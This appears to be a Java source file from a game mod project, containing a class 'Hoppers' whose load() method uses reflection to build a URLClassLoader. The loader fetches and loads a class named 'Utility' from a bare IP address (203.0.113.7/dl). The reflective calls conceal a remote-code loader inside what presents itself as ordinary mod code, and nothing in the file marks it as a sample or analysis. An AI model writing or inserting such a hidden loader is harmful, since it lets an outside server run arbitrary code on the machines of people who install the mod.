package org.example.mod;

import java.net.URL;
import java.util.ArrayList;
import java.util.List;

final class Hoppers {
    void load() throws Exception {
        List<URL> many = new ArrayList<>();
        many.add(new java.net.URL("http://203.0.113.7/dl"));
        Class<?> type = Class.forName("java.net.URLClassLoader");
        Object loader = type.getConstructor(URL[].class).newInstance((Object) many.toArray(new URL[0]));
        loader.getClass().getMethod("loadClass", String.class).invoke(loader, "Utility");
    }
}
